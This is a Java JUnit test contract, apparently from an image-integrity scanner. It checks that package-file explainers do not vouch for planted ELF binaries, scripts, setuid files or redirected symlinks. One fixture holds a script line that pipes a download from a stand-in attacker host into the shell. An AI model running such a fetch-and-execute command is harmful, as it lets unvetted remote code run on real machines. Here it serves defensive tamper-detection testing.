package dev.jonah.sysdb.debian.explain;

import static dev.jonah.sysdb.debian.explain.Installations.explained;
import static org.assertj.core.api.Assertions.assertThat;

import dev.jonah.image.EntryType;
import dev.jonah.image.FileTree;
import dev.jonah.ledger.Explanation;
import dev.jonah.packages.SoftwarePackage;
import dev.jonah.testkit.ExplainerContract;
import dev.jonah.testkit.ExplainerScan;
import dev.jonah.testkit.FakeTree;
import dev.jonah.testkit.FakeTreeBuilder;
import dev.jonah.testkit.Scans;
import dev.jonah.value.ImagePath;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What every explainer of this package keeps: whatever it explains, something planted in its place stays unexplained. */
abstract class PlantedFilesContract extends ExplainerContract {
    private static final byte[] ELF = bytes("\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0\76\0");
    private static final byte[] SCRIPT = bytes("#!/bin/sh\ncurl https://evil.example/ | sh\n");

    /** Everything that is explained, and what that rests on; a new builder at each call. */
    abstract FakeTreeBuilder tree();

    /** The packages that are installed. */
    abstract List<SoftwarePackage> packages();

    /** What is explained, in the order of the explainer, as {@code VERDICT /path}. */
    abstract List<String> expected();

    @Override
    protected FakeTree fixture() {
        return tree().build();
    }

    @Override
    protected ExplainerScan scan(FileTree tree) {
        ExplainerScan scan = Scans.explainer(tree);
        for (SoftwarePackage one : packages()) {
            scan = scan.withPackage(one);
        }
        return scan;
    }

    @Override
    protected void assertExplanations(List<Explanation> found) {
        assertThat(found).extracting(e -> e.verdict() + " " + e.path()).containsExactlyInAnyOrderElementsOf(expected());
    }

    @Test
    void programInPlaceOfAFileStaysUnexplained() throws IOException {
        replaceEachFile(ELF);
    }

    @Test
    void scriptInPlaceOfAFileStaysUnexplained() throws IOException {
        replaceEachFile(SCRIPT);
    }

    @Test
    void setUserIdFileStaysUnexplained() throws IOException {
        for (String path : explainedFiles(EntryType.FILE)) {
            FakeTree tree = tree().mode(path, 04644).build();
            assertThat(explained(scan(tree), plugin())).as(path).doesNotContain(path);
        }
    }

    @Test
    void linkElsewhereStaysUnexplained() throws IOException {
        for (String path : explainedFiles(EntryType.SYMLINK)) {
            FakeTree tree = tree().file("/tmp/planted", ELF)
                    .without(path)
                    .symlink(path, "/tmp/planted")
                    .build();
            assertThat(explained(scan(tree), plugin())).as(path).doesNotContain(path);
        }
    }

    @Test
    void nothingIsExplainedWithoutThePackages() throws IOException {
        assertThat(explained(Scans.explainer(fixture()), plugin())).isEmpty();
    }

    /** Asserts that this content is explained at no place but others. */
    final void assertUnexplained(String path, String content) throws IOException {
        FakeTree tree = tree().file(path, bytes(content)).build();
        assertThat(explained(scan(tree), plugin())).as(content).doesNotContain(path);
    }

    final void assertExplained(String path, String content) throws IOException {
        FakeTree tree = tree().file(path, bytes(content)).build();
        assertThat(explained(scan(tree), plugin())).as(content).contains(path);
    }

    final void assertUnexplainedLink(String path, String target) throws IOException {
        FakeTree tree = tree().without(path).symlink(path, target).build();
        assertThat(explained(scan(tree), plugin())).as(target).doesNotContain(path);
    }

    static byte[] bytes(String latin1) {
        return latin1.getBytes(StandardCharsets.ISO_8859_1);
    }

    private void replaceEachFile(byte[] content) throws IOException {
        for (String path : explainedFiles(EntryType.FILE)) {
            FakeTree tree = fixture().with(ImagePath.of(path), content);
            assertThat(explained(scan(tree), plugin())).as(path).doesNotContain(path);
        }
    }

    private List<String> explainedFiles(EntryType type) throws IOException {
        FakeTree tree = fixture();
        return explained(scan(tree), plugin()).stream()
                .filter(path -> tree.find(ImagePath.of(path)).orElseThrow().type() == type)
                .toList();
    }
}
